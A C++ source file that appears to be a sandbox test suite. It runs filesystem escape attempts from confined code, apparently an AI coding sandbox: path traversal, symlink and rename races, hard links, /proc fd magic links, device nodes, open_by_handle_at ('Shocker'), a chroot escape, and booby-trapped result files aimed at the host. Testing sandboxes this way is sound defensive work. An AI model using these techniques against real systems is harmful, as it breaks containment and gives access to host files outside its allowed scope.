// Reaching files of the host: by their path, through links and races, by descriptor, and by what the host reads afterwards.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>

#include "sandbox/attack/program.h"

namespace aicoder::attack {
namespace {

int read_path(const Args& args) {
  attempt();
  return show_file(AT_FDCWD, args.text(0));
}

int read_upwards(const Args& args) {
  static char path[4096 + 512];
  for (int i = 0; i < 64; ++i) std::strcat(path, "../");
  std::strncat(path, args.text(0) + 1, 4000);
  attempt();
  return show_file(AT_FDCWD, path);
}

int list_folder(const Args& args) {
  attempt();
  DIR* folder = ::opendir(args.text(0));
  if (folder == nullptr) return effect_if(args, false);
  int entries = 0;
  while (const dirent* entry = ::readdir(folder))
    entries += std::strcmp(entry->d_name, ".") != 0 && std::strcmp(entry->d_name, "..") != 0 ? 1 : 0;
  ::closedir(folder);
  return effect_if(args, entries > 0);
}

int write_path(const Args& args) {
  attempt();
  return effect_if(args, write_file(args.text(0), args.nonce, O_CREAT | O_APPEND));
}

int symlink_chain(const Args& args) {
  char from[32], to[32];
  if (::symlink(args.text(0), "link-0") != 0) return 2;
  for (int i = 1; i < 30; ++i) {
    std::snprintf(from, sizeof from, "link-%d", i - 1);
    std::snprintf(to, sizeof to, "link-%d", i);
    if (::symlink(from, to) != 0) return 2;
  }
  attempt();
  return show_file(AT_FDCWD, "link-29");
}

int symlink_folder(const Args& args) {
  if (::symlink(args.text(0), "folder") != 0) return 2;
  attempt();
  return effect_if(args, write_file("folder/made-by-attack", args.nonce, O_CREAT | O_EXCL));
}

/// A checker sees a folder, the writer a link: one process exchanges them, the other writes through the name.
int symlink_swap(const Args& args) {
  if (::mkdir("place", 0755) != 0 || ::symlink(args.text(0), "other") != 0) return 2;
  const pid_t swapper = ::fork();
  if (swapper == 0) {
    ::alarm(10);
    for (;;) ::renameat2(AT_FDCWD, "place", AT_FDCWD, "other", 2 /* RENAME_EXCHANGE */);
  }
  attempt();
  timespec now{}, start{};
  ::clock_gettime(CLOCK_MONOTONIC, &start);
  for (now = start; now.tv_sec < start.tv_sec + 3; ::clock_gettime(CLOCK_MONOTONIC, &now)) {
    struct stat info{};
    if (::lstat("place", &info) != 0 || !S_ISDIR(info.st_mode)) continue;
    write_file("place/made-by-attack", args.nonce, O_CREAT);
    // Whichever name is the link just now: did it arrive where the link leads?
    if (::lstat("place", &info) == 0 && S_ISLNK(info.st_mode) && ::access("place/made-by-attack", F_OK) == 0) break;
  }
  end_child(swapper);
  return 0;
}

int hard_link(const Args& args) {
  attempt();
  return effect_if(args, ::link(args.text(0), "mine") == 0 && write_file("mine", args.nonce, O_APPEND));
}

int rename_away(const Args& args) {
  attempt();
  return effect_if(args, ::rename(args.text(0), "mine") == 0);
}

/// A folder held open is moved to a higher place: what was "below" is then outside of what a naive check allows.
int rename_escape(const Args& args) {
  if (::mkdir("a", 0755) != 0 || ::mkdir("a/b", 0755) != 0) return 2;
  const int held = ::open("a/b", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (held < 0 || ::rename("a/b", "b") != 0) return 2;
  static char path[4096 + 512];
  for (int i = 0; i < 64; ++i) std::strcat(path, "../");
  std::strncat(path, args.text(0) + 1, 4000);
  attempt();
  return show_file(held, path);
}

int o_path(const Args& args) {
  attempt();
  const int folder = ::open(args.text(0), O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (folder < 0) return effect_if(args, false);
  const int file = ::openat(folder, args.text(1), O_PATH | O_CLOEXEC);
  char again[64];
  std::snprintf(again, sizeof again, "/proc/self/fd/%d", file);  // the descriptor gives no right to read; its magic link does
  return show_file(AT_FDCWD, again);
}

int device_node(const Args& args) {
  attempt();
  if (::mknod("device", S_IFCHR | 0600, makedev(1, 5)) != 0) return effect_if(args, false);
  char byte = 1;
  const int fd = ::open("device", O_RDONLY | O_CLOEXEC);
  return effect_if(args, fd >= 0 && ::read(fd, &byte, 1) == 1 && byte == 0);
}

/// Any device beyond the four that give nothing away.
int open_devices(const Args& args) {
  attempt();
  static constexpr const char* kDevices[] = {
      "zero",    "ptmx",  "tty",    "kmsg", "mem",     "port",  "kvm",  "fuse",          "net/tun",        "vda",        "sda", "vsock",
      "console", "loop0", "uinput", "sda1", "nvme0n1", "hwrng", "rtc0", "btrfs-control", "mapper/control", "userfaultfd"};
  bool opened = false;
  for (const char* name : kDevices) {
    char path[64];
    std::snprintf(path, sizeof path, "/dev/%s", name);
    const int fd = ::open(path, O_RDWR | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    if (fd < 0) continue;
    opened = true;
    ::dprintf(1, "opened %s\n", path);
    ::close(fd);
  }
  return effect_if(args, opened);
}

int result_symlink(const Args& args) {
  attempt();
  return ::symlink(args.text(0), "result") == 0 ? 0 : 1;
}

int result_folder_link(const Args& args) {
  attempt();
  return ::symlink(args.text(0), "out") == 0 ? 0 : 1;  // the host asks for out/secret.txt
}

int result_hard_link(const Args& args) {
  attempt();
  return ::link(args.text(0), "result") == 0 ? 0 : 1;
}

int result_fifo(const Args&) {
  attempt();
  return ::mkfifo("result", 0644);
}

/// A daemon that outlives the program and exchanges the result for a link while the host looks at it.
int result_swap(const Args& args) {
  if (!write_file("result", "harmless", O_CREAT) || ::symlink(args.text(0), "other") != 0) return 2;
  attempt();
  if (::fork() == 0) {
    ::setsid();
    for (int fd = 0; fd < 3; ++fd) ::close(fd);
    ::alarm(20);
    for (;;) ::renameat2(AT_FDCWD, "result", AT_FDCWD, "other", 2);
  }
  return 0;
}

int result_sparse(const Args&) {
  const int fd = ::open("result", O_RDWR | O_CREAT | O_CLOEXEC, 0644);
  attempt();
  return fd >= 0 && ::ftruncate(fd, off_t{1} << 40) == 0 ? 0 : 1;
}

/// Shocker: the number of a file instead of its path, opened through any descriptor of the same file system.
int by_handle(const Args& args) {
  struct {
    file_handle head;
    unsigned char space[128];
  } handle{};
  handle.head.handle_bytes = sizeof handle.space;
  int mount_id = 0;
  char folder[4096];
  std::strncpy(folder, args.text(0), sizeof folder - 1);
  *std::strrchr(folder, '/') = '\0';
  attempt();
  const bool named = ::name_to_handle_at(AT_FDCWD, args.text(0), &handle.head, &mount_id, 0) == 0;
  const int mount = ::open(named ? folder : "/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int fd = ::open_by_handle_at(mount, &handle.head, O_RDONLY | O_CLOEXEC);
  return fd >= 0 ? show_all(fd) : effect_if(args, false);
}

int chroot_escape(const Args& args) {
  if (::mkdir("jail", 0755) != 0) return 2;
  const int outside = ::open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  attempt();
  if (::chroot("jail") != 0 || ::fchdir(outside) != 0) return effect_if(args, false);
  for (int i = 0; i < 64; ++i) (void)!::chdir("..");
  if (::chroot(".") != 0) return effect_if(args, false);
  return show_file(AT_FDCWD, args.text(0));
}

constexpr Entry kEntries[] = {{"read_path", read_path},
                              {"read_upwards", read_upwards},
                              {"list_folder", list_folder},
                              {"write_path", write_path},
                              {"symlink_chain", symlink_chain},
                              {"symlink_folder", symlink_folder},
                              {"symlink_swap", symlink_swap},
                              {"hard_link", hard_link},
                              {"rename_away", rename_away},
                              {"rename_escape", rename_escape},
                              {"o_path", o_path},
                              {"device_node", device_node},
                              {"open_devices", open_devices},
                              {"result_symlink", result_symlink},
                              {"result_folder_link", result_folder_link},
                              {"result_hard_link", result_hard_link},
                              {"result_fifo", result_fifo},
                              {"result_swap", result_swap},
                              {"result_sparse", result_sparse},
                              {"by_handle", by_handle},
                              {"chroot_escape", chroot_escape}};

}  // namespace

Entries file_attacks() { return {kEntries, sizeof kEntries / sizeof kEntries[0]}; }

}  // namespace aicoder::attack
